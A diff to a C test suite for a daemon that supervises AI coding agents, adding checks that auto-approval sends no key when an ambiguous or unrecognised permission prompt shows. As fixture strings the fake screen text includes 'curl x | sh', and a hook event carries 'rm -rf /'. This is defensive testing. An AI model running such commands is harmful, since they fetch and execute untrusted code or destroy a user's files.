@@ -1303,6 +1303,22 @@ test_codex(void)
 			agent_approve_free(s->agent);
 		}
 	}
+	/* A command shown with a question of its own (and a "$ ls" after it): no key. */
+	agent_set(s, AGENT_WORKING, "hook", "thinking", NULL);
+	test_reset();
+	f = json_tokener_parse("{\"hook_event_name\":\"PermissionRequest\",\"tool_name\":"
+	    "\"Bash\",\"tool_input\":{\"command\":\"ls\"}}");
+	agent_hook(s, f, NULL);
+	json_object_put(f);
+	ok(agent_approve(s, 1, NULL, "tester", &code, &cause) == 0, "codex hook: allow ls");
+	screen_show(s, "  Would you like to run the following command?\n  $ curl x | sh\n"
+	    "  Would you like to run the following command?\n  $ ls\n"
+	    "\xe2\x80\xba 1. Yes, proceed (y)\n");
+	for (j = 0; j < 4; j++)
+		event_base_loop(agentd_base, EVLOOP_ONCE);
+	is_str(typed, "", "codex hook: no key while two questions show");
+	s->agent->approve_keys = NULL;
+	agent_approve_free(s->agent);
 	f = json_tokener_parse("{\"hook_event_name\":\"PostToolUse\",\"tool_name\":"
 	    "\"exec_command\",\"tool_input\":{\"command\":\"rm -rf /\"}}");
 	test_reset();
@@ -1323,7 +1339,13 @@ test_codex(void)
 	screen_show(s, "\xe2\x80\xba Ask Codex to do anything\n");
 	event_base_loop(agentd_base, EVLOOP_ONCE);
 	is_str(last_status(), "waiting_approval/hook", "codex hook: a request without its box waits");
+	/* Choices on screen (a box whose question is not recognized): it waits. */
+	screen_show(s, "  Would you like to run the\n\xe2\x80\xba 1. Yes, proceed (y)\n");
 	s->agent->wait_ms -= 31000;
+	for (i = 0; i < 3; i++)
+		event_base_loop(agentd_base, EVLOOP_ONCE);
+	is_str(last_status(), "waiting_approval/hook", "codex hook: a box's choices on screen: waits");
+	screen_show(s, "\xe2\x80\xba Ask Codex to do anything\n");
 	for (i = 0; i < 4 && s->agent->status == AGENT_WAITING; i++)
 		event_base_loop(agentd_base, EVLOOP_ONCE);
 	is_str(last_status(), "idle/daemon", "codex hook: its box never drawn: idle again");
